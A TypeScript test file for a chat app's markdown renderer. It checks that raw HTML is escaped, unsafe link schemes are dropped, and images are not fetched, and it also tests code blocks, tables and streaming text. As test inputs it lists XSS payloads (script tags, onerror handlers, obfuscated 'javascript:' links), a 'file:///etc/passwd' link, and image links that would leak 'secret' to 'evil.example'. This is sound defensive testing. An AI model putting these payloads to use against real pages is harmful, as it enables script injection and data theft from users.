import { I18nProvider } from '@lingui/react'
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import ReactMarkdown from 'react-markdown'
import remarkGfm from 'remark-gfm'
import { expect, test } from 'vitest'
import { createI18n } from '../../i18n/i18n.ts'
import { LoadedMarkdown } from './loaded-markdown.tsx'
import { markdownComponents } from './markdown-components.tsx'

const i18n = createI18n()
const render = (text: string, isGrowing = false) =>
  renderToStaticMarkup(
    <I18nProvider i18n={i18n}>
      <LoadedMarkdown text={text} isGrowing={isGrowing} />
    </I18nProvider>,
  )
/** The elements alone: no text can be mistaken for one, because it is escaped. */
const tags = (html: string) => [...html.matchAll(/<([a-z0-9]+)/gu)].map(([, name]) => name)

test('raw HTML is text, and nothing of it is an element', () => {
  const html = render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <b>bold</b> <iframe src="//evil.example">')
  expect(html).not.toMatch(/<(?:script|img|iframe|b)[\s>]/u)
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
})

test.each([
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/path)',
  '[x](/trpc/conversations.delete)',
  '[x](tel:123)',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
])('%s is no link', (text) => {
  expect(tags(render(text))).not.toContain('a')
})

test.each([
  ['[x](https://a.example/b?c=d)', 'https://a.example/b?c=d'],
  ['[x](http://a.example)', 'http://a.example'],
  ['[x](mailto:a@b.example)', 'mailto:a@b.example'],
  ['https://a.example', 'https://a.example'],
  ['[x][1]\n\nbetween\n\n[1]: https://a.example', 'https://a.example'],
])('%s leads to %s, in a window that knows nothing of this one', (text, address) => {
  expect(render(text)).toContain(`<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">`)
})

test.each(['![secret](https://evil.example/?q=secret)', '![secret][1]\n\n[1]: https://evil.example/?q=secret'])(
  'the picture %s is not fetched; a link names where it is',
  (text) => {
    const html = render(text)
    expect(tags(html)).not.toContain('img')
    expect(html).toContain('Picture: secret (evil.example)')
  },
)

test('a picture of this page or of no address is its description', () => {
  expect(tags(render('![a](/trpc/x) ![b](data:image/png;base64,AAAA)'))).toEqual(['div', 'div', 'p', 'span', 'span'])
})

test('code keeps every character, and its language is not part of its text', () => {
  const html = render('```ts\nconst a = "<b>" && 1\n\n  indented\n```')
  expect(html).toContain('<code>const a = &quot;&lt;b&gt;&quot; &amp;&amp; 1\n\n  indented</code>')
  expect(html).toContain('data-language="ts"')
})

test('tables scroll by themselves, and can be reached with the keyboard', () => {
  expect(render('|a|b|\n|-|-|\n|1|2|')).toMatch(
    /<div class="overflow-x-auto" role="region" aria-label="Table" tabindex="0"><table>/u,
  )
})

test.each([
  ['**bold', '<strong>bold</strong>'],
  ['some `code', '<code>code</code>'],
  ['see [the link](https://a.exam', 'the link'],
  ['~~gone', '<del>gone</del>'],
])('while it grows, %s is shown as what it will be', (text, expected) => {
  const html = render(text, true)
  expect(html).toContain(expected)
  expect(html).not.toMatch(/streamdown|https:|\*\*|~~/u)
})

test('what has ended is shown as it is, open marks too', () => {
  expect(render('**bold')).toContain('**bold')
})

test('every token of a growing text is shown once, at every length', () => {
  const tokens = Array.from({ length: 60 }, (_, index) => `t${index + 1}`)
  for (let count = 1; count <= tokens.length; count += 1) {
    const text = render(tokens.slice(0, count).join(' '), true).replace(/<[^>]+>/gu, '')
    expect(text.trim().split(' ')).toEqual(tokens.slice(0, count))
  }
})

const piece = fc.constantFrom(
  '# Title',
  'Some *text* with `code` and [a](https://a.example)',
  '- one\n- two\n  - deep',
  '1. one\n\n   more\n\n2. two',
  '```js\nlet a\n\nlet b\n```',
  '|a|b|\n|-|-|\n|1|2|',
  '> quote\n> more',
  '---',
  '    code\n\n    more',
  'line\nline  \nbreak',
  '* star\n\n* loose',
  '[ref] and [other][ref]',
  '[ref]: https://ref.example "R"',
)

test('taken apart it looks like the whole: the same elements with the same text', () => {
  const whole = (text: string) =>
    renderToStaticMarkup(
      <I18nProvider i18n={i18n}>
        <ReactMarkdown remarkPlugins={[[remarkGfm, { singleTilde: false }]]} components={markdownComponents}>
          {text}
        </ReactMarkdown>
      </I18nProvider>,
    )
  const normalise = (html: string) =>
    html.replaceAll(/<div class="(?:prose|markdown-block)"(?: dir="auto")?>|<\/div>/gu, '').replaceAll('\n', '')
  fc.assert(
    fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (pieces) => {
      const text = pieces.join('\n\n')
      expect(normalise(render(text))).toBe(normalise(whole(text)))
    }),
    { numRuns: 150 },
  )
})
